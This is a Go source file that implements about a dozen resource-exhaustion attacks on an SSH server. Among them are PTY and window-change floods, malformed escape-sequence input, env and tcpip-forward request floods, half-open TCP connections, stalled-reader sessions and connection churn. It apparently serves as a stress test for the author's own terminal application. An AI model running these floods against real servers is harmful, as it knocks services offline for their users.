package sshattack

// The attacks, each as Find names it (sshattack.go holds the targets,
// the sessions and the results they share).

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	gossh "golang.org/x/crypto/ssh"
)

func ptyAttack(ctx context.Context, t Target, n int64) (Result, error) {
	clients, tried := each(ctx, n, 4, func() (*gossh.Client, error) {
		c, ch, err := t.guestSession(ctx, 100_000, 100_000, "", true)
		if err != nil {
			return nil, err
		}
		ch.SendRequest("window-change", false, gossh.Marshal(struct{ Columns, Rows, Width, Height uint32 }{65535, 65535, 0, 0}))
		return c, nil
	})
	defer closeAll(clients)
	hold(ctx, t)
	return Result{Sent: tried, Opened: len(clients), Held: alive(clients)}, nil
}

// stream opens a guest's session and writes head, then fill repeated to
// n bytes in all, as fast as the server reads.
func stream(ctx context.Context, t Target, n int64, head string, fills ...string) (Result, error) {
	c, ch, err := t.guestSession(ctx, 80, 24, "", true)
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var sent int64
	w := func(s string) bool {
		k, err := io.WriteString(ch, s)
		sent += int64(k)
		return err == nil
	}
	// Each fill is 32 KiB of one pattern, written in turn.
	var blocks []string
	for _, f := range fills {
		blocks = append(blocks, strings.Repeat(f, (32<<10)/len(f)))
	}
	ok := w(head)
	for i := 0; ok && sent < n; i++ {
		b := blocks[i%len(blocks)]
		ok = w(b[:min(int64(len(b)), n-sent)])
	}
	hold(ctx, t)
	return Result{Sent: sent, Opened: 1, Held: alive([]*gossh.Client{c})}, nil
}

func pasteAttack(ctx context.Context, t Target, n int64) (Result, error) {
	return stream(ctx, t, n, "\x1b[200~", "pasted ")
}

func inputAttack(ctx context.Context, t Target, n int64) (Result, error) {
	return stream(ctx, t, n, "", "\x1b]0;"+strings.Repeat("a", 4000), "\xff"+strings.Repeat("b", 4000),
		"\x1bx"+strings.Repeat("c", 4000), "\x1b["+strings.Repeat(";", 4000), strings.Repeat("\x1b", 4000),
		"\x1b[8;1024;1024t", "\x1b[124;0;0;1;0;65535_", "\x1b\x80[200~"+strings.Repeat("d", 4000))
}

func envAttack(ctx context.Context, t Target, n int64) (Result, error) {
	c, err := t.dial(ctx, nil)
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })() // a write the server does not read ends with the sending
	ch, reqs, err := c.OpenChannel("session", nil)
	if err != nil {
		return Result{}, err
	}
	go gossh.DiscardRequests(reqs)
	value := strings.Repeat("v", 32<<10)
	var sent int64
	for i := 0; sent < n && ctx.Err() == nil; i++ {
		name := "LANG"
		if i%2 == 1 {
			name = fmt.Sprintf("X_%d", i)
		}
		if _, err := ch.SendRequest("env", false, gossh.Marshal(struct{ Name, Value string }{name, value})); err != nil {
			break
		}
		sent += int64(len(value))
	}
	ch.SendRequest("pty-req", true, ptyPayload(80, 24))
	ch.SendRequest("shell", true, nil)
	go io.Copy(io.Discard, ch)
	hold(ctx, t)
	return Result{Sent: sent, Opened: 1, Held: alive([]*gossh.Client{c})}, nil
}

func loginsAttack(ctx context.Context, t Target, n int64) (Result, error) {
	clients, tried := each(ctx, n, 4, func() (*gossh.Client, error) { return t.dial(ctx, nil) })
	defer closeAll(clients)
	hold(ctx, t)
	return Result{Sent: tried, Opened: len(clients), Held: alive(clients)}, nil
}

func boardsAttack(ctx context.Context, t Target, n int64) (Result, error) {
	clients, tried := each(ctx, n, 4, func() (*gossh.Client, error) {
		c, _, err := t.guestSession(ctx, 80, 24, "board", true)
		return c, err
	})
	defer closeAll(clients)
	hold(ctx, t)
	return Result{Sent: tried, Opened: len(clients), Held: alive(clients)}, nil
}

func channelsAttack(ctx context.Context, t Target, n int64) (Result, error) {
	c, err := t.dial(ctx, nil)
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	opened := 0
	var sent int64
	for ; sent < n && ctx.Err() == nil; sent++ {
		ch, reqs, err := c.OpenChannel("session", nil)
		if errors.Is(err, io.EOF) {
			break
		}
		if err == nil {
			opened++
			go gossh.DiscardRequests(reqs)
			defer ch.Close()
		}
	}
	hold(ctx, t)
	return Result{Sent: sent, Opened: opened, Held: alive([]*gossh.Client{c})}, nil
}

func halfOpenAttack(ctx context.Context, t Target, n int64) (Result, error) {
	var (
		mu     sync.Mutex
		conns  []net.Conn
		next   atomic.Int64
		opened atomic.Int64
		open   atomic.Int64 // held now: not closed by the server yet
		wg     sync.WaitGroup
	)
	for range 64 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for next.Add(1) <= n && ctx.Err() == nil {
				c, err := t.tcp(ctx)
				if err != nil {
					continue
				}
				opened.Add(1)
				open.Add(1)
				mu.Lock()
				conns = append(conns, c)
				mu.Unlock()
				// Read until the server closes it, then let it go: the
				// attacker's own descriptors stay bounded.
				go func() {
					io.Copy(io.Discard, c)
					open.Add(-1)
					c.Close()
				}()
			}
		}()
	}
	wg.Wait()
	hold(ctx, t)
	held := int(open.Load())
	mu.Lock()
	for _, c := range conns {
		c.Close()
	}
	mu.Unlock()
	return Result{Sent: n, Opened: int(opened.Load()), Held: held}, nil
}

func windowsAttack(ctx context.Context, t Target, n int64) (Result, error) {
	c, ch, err := t.guestSession(ctx, 80, 24, "", true)
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var sent int64
	for ; sent < n && ctx.Err() == nil; sent++ {
		size := uint32(20 + sent%300)
		if _, err := ch.SendRequest("window-change", false, gossh.Marshal(struct{ Columns, Rows, Width, Height uint32 }{size, size / 3, 0, 0})); err != nil {
			break
		}
	}
	hold(ctx, t)
	return Result{Sent: sent, Opened: 1, Held: alive([]*gossh.Client{c})}, nil
}

func globalsAttack(ctx context.Context, t Target, n int64) (Result, error) {
	c, err := t.dial(ctx, nil)
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var sent atomic.Int64
	var wg sync.WaitGroup
	for range 16 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for sent.Add(1) <= n && ctx.Err() == nil {
				if _, _, err := c.SendRequest("tcpip-forward", true, gossh.Marshal(struct {
					Addr string
					Port uint32
				}{"0.0.0.0", 0})); err != nil {
					return
				}
			}
		}()
	}
	wg.Wait()
	hold(ctx, t)
	return Result{Sent: min(sent.Load(), n), Opened: 1, Held: alive([]*gossh.Client{c})}, nil
}

func stalledAttack(ctx context.Context, t Target, n int64) (Result, error) {
	var frozen []*freezer
	var mu sync.Mutex
	clients, tried := each(ctx, n, 4, func() (*gossh.Client, error) {
		conn, err := t.tcp(ctx)
		if err != nil {
			return nil, err
		}
		f := &freezer{Conn: conn, thaw: make(chan struct{})}
		c, ch, err := t.guest(f, 300, 100, "", true)
		if err != nil {
			return nil, err
		}
		// The client reads no more: the server's writes fill the TCP
		// buffers; Yam's, Auto after Auto, keeps it writing.
		f.freeze()
		mu.Lock()
		frozen = append(frozen, f)
		mu.Unlock()
		go func() {
			io.WriteString(ch, "1")
			for ctx.Err() == nil {
				if _, err := io.WriteString(ch, "a"); err != nil {
					return
				}
				time.Sleep(200 * time.Millisecond)
			}
		}()
		return c, nil
	})
	defer closeAll(clients)
	hold(ctx, t)
	for _, f := range frozen {
		f.unfreeze()
	}
	return Result{Sent: tried, Opened: len(clients), Held: alive(clients)}, nil
}

// freezer is a connection whose reads stop once frozen, until thawed: a
// client that stops reading what the server sends.
type freezer struct {
	net.Conn
	frozen atomic.Bool
	thaw   chan struct{}
	once   sync.Once
}

func (f *freezer) Read(p []byte) (int, error) {
	if f.frozen.Load() {
		<-f.thaw
	}
	return f.Conn.Read(p)
}

func (f *freezer) freeze()   { f.frozen.Store(true) }
func (f *freezer) unfreeze() { f.once.Do(func() { close(f.thaw) }) }

func churnAttack(ctx context.Context, t Target, n int64) (Result, error) {
	var opened atomic.Int64
	_, tried := each(ctx, n, 4, func() (*gossh.Client, error) {
		c, ch, err := t.guestSession(ctx, 80, 24, "", false)
		if err != nil {
			return nil, err
		}
		defer c.Close()
		// The first frame, then q and keys after it in one write (Bubble
		// Tea's reader held the whole program of such a session), then
		// gone; or gone after 10 s without a frame.
		stop := time.AfterFunc(10*time.Second, func() { c.Close() })
		defer stop.Stop()
		if _, err := ch.Read(make([]byte, 1024)); err == nil {
			opened.Add(1)
			io.WriteString(ch, "q"+strings.Repeat("j", 4000))
			time.Sleep(200 * time.Millisecond)
		}
		return nil, nil
	})
	hold(ctx, t)
	return Result{Sent: tried, Opened: int(opened.Load())}, nil
}
